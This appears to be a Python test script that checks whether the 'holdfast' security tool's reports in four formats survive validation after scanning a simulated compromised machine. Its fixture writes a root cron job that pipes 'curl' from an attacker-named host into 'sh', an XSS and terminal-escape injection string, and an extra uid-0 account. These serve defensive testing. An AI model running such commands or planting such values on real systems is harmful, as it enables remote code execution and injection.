#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""usage: report_formats.py [--all] HOLDFAST

What `holdfast report` writes of a hostile machine, and a broken copy of it, before validators that
others wrote: CycloneDX' own library and the classes of OCSF (both of PyPI), Prometheus' promtool;
with --all ajv with the schema of SARIF 2.1.0, too (npm, 50 MB). What cannot be had is skipped.
"""
import json
import os
import shutil
import subprocess
import sys
import tempfile

from tap import ok, plan, skip

EVIL = "\"'><script>alert(1)</script>\x1b[2J\u202egro.live {x=\"1\"} \\n ]]>"
CYCLONEDX = """
import sys
from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator
error = JsonStrictValidator(SchemaVersion.V1_6).validate_str(open(sys.argv[1]).read())
print(repr(error)[:1500])
sys.exit(error is not None)
"""
# The library asks of a device for what the schema only recommends.
OCSF = """
import json, sys
from py_ocsf_models.events.findings.compliance_finding import ComplianceFinding
for line in open(sys.argv[1]):
    finding = json.loads(line)
    finding["device"] = dict({"ip": "0.0.0.0", "name": "", "region": "", "uid": ""}, **finding["device"])
    ComplianceFinding.model_validate(finding)
"""
SARIF = """
const fs = require("fs"), schema = JSON.parse(fs.readFileSync(process.argv[2], "utf8"));
const draft4 = schema.$schema.includes("draft-04");
const Ajv = require(draft4 ? "ajv-draft-04" : "ajv/dist/2020"), formats = require("ajv-formats");
const ajv = new (Ajv.default || Ajv)({strict: false, allErrors: true});
(formats.default || formats)(ajv);
const check = ajv.compile(schema), good = check(JSON.parse(fs.readFileSync(process.argv[3], "utf8")));
console.log(JSON.stringify((check.errors || []).slice(0, 5)));
process.exit(good ? 0 : 1);
"""


def run(*argv, **kwargs):
    return subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                          errors="replace", check=False, **kwargs)


def machine(root):
    """With what each format has: findings, packages, files of others, all named by somebody hostile."""
    evil = EVIL.replace(":", "")
    texts = {
        "etc/hostname": EVIL + "\n",
        "etc/os-release": "PRETTY_NAME=\"Debian <b>12</b>\"\nID=debian\nVERSION_ID=\"12\"\n",
        "etc/passwd": "root:x:0:0:root:/root:/bin/bash\n%s:x:0:0::/:/bin/sh\n" % evil,
        "etc/group": "root:x:0:\n",
        "etc/shadow": "root:*:19000:0:99999:7:::\n",
        "etc/ssh/sshd_config": "PermitRootLogin yes\nPasswordAuthentication yes\nBanner /%s\n" % evil,
        "usr/sbin/sshd": "",
        "etc/cron.d/job": "* * * * * root curl http://%s | sh\n" % evil,
        "var/lib/dpkg/status": "Package: bash\nStatus: install ok installed\nArchitecture: amd64\n"
                               "Version: 5.2-1\nMaintainer: %s\nDescription: %s\n\n" % (EVIL, EVIL),
        "opt/app/node_modules/left/package.json": json.dumps({"name": "left", "version": "1.0" + EVIL}),
    }
    for name, text in texts.items():
        path = os.path.join(root, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8") as out:
            out.write(text)
    os.chmod(os.path.join(root, "usr/sbin/sshd"), 0o755)


def before(validator, name, path, broken):
    """Takes what was written, and refuses what is broken."""
    done = run(*validator(path))
    ok(done.returncode == 0, name + " takes it", done.stdout)
    done = run(*validator(broken))
    ok(done.returncode != 0, name + " refuses a broken copy", done.stdout)


def write(folder, name, text):
    path = os.path.join(folder, name)
    with open(path, "w", encoding="utf-8") as out:
        out.write(text)
    return path


def read(path):
    with open(path, encoding="utf-8") as f:
        return f.read()


def python(folder):
    """An interpreter with the libraries, or None."""
    venv = folder + "/venv"
    if run(sys.executable, "-m", "venv", venv).returncode:
        return None
    try:
        done = run(venv + "/bin/pip", "-q", "--disable-pip-version-check", "--retries", "1", "--timeout",
                   "10", "install", "cyclonedx-python-lib[json-validation]", "py-ocsf-models==0.10.0",
                   timeout=300)
    except subprocess.TimeoutExpired:
        return None
    return venv + "/bin/python" if done.returncode == 0 else None


def libraries(folder, reports):
    interpreter = python(folder)
    if not interpreter:
        skip("CycloneDX' library and the classes of OCSF", "cannot be installed here")
        return
    bom = json.loads(read(reports["cyclonedx"]))
    bom["components"][0]["type"] = "nonsense"
    before(lambda p: (interpreter, write(folder, "bom.py", CYCLONEDX), p), "CycloneDX' library",
           reports["cyclonedx"], write(folder, "bad.cdx", json.dumps(bom)))
    lines = read(reports["ocsf"]).splitlines()
    finding = json.loads(lines[0])
    del finding["finding_info"]
    before(lambda p: (interpreter, write(folder, "ocsf.py", OCSF), p), "OCSF's Compliance Finding",
           reports["ocsf"], write(folder, "bad.ocsf", "\n".join([json.dumps(finding)] + lines[1:])))


def prometheus(folder, reports):
    if not shutil.which("promtool"):
        skip("promtool", "not installed")
        return
    before(lambda p: ("sh", "-c", "promtool check metrics <'%s'" % p), "promtool", reports["prometheus"],
           write(folder, "bad.prom", read(reports["prometheus"]) + "holdfast_broken{ 1\n"))


def sarif(folder, reports):
    done = run("npm", "install", "--silent", "--no-audit", "--no-fund", "--prefix", folder, "ajv@8",
               "ajv-formats@3", "ajv-draft-04@1", "@microsoft/sarif-multitool-linux@5") \
        if shutil.which("npm") and shutil.which("node") else None
    schema = folder + "/node_modules/@microsoft/sarif-multitool-linux/sarif-2.1.0.json"
    if not done or done.returncode or not os.path.exists(schema):
        skip("ajv with the schema of SARIF", "npm cannot fetch it")
        return
    log = json.loads(read(reports["sarif"]))
    del log["runs"][0]["tool"]["driver"]
    script = write(folder, "sarif.js", SARIF)
    before(lambda p: ("node", script, schema, p), "ajv with the schema of SARIF 2.1.0", reports["sarif"],
           write(folder, "bad.sarif", json.dumps(log)))


def main():
    everything = sys.argv[1] == "--all"
    holdfast = os.path.abspath(sys.argv[-1])
    with tempfile.TemporaryDirectory(prefix="holdfast-formats-") as folder:
        machine(folder + "/root")
        facts = folder + "/facts"
        done = run(holdfast, "collect", "--root", folder + "/root", "-o", facts)
        ok(done.returncode == 0, "facts of a hostile machine", done.stdout)
        reports = {}
        for name in ("cyclonedx", "ocsf", "prometheus", "sarif"):
            reports[name] = folder + "/report." + name
            done = run(holdfast, "report", "--facts", facts, "--no-state", "-f", name, "-o", reports[name])
            ok(done.returncode == 0, name, done.stdout)
        libraries(folder, reports)
        prometheus(folder, reports)
        if everything:
            sarif(folder, reports)
    return plan()


if __name__ == "__main__":
    sys.exit(main())
